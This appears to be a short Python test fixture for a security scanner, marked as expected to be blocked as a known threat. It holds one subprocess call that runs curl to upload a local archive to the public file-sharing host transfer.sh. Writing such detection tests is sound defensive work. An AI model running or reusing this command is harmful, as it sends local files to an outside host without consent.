# expect: BLOCKED known_threat
import subprocess
subprocess.run(["curl", "--upload-file", "./report.tar.gz", "https://transfer.sh/report.tar.gz"])
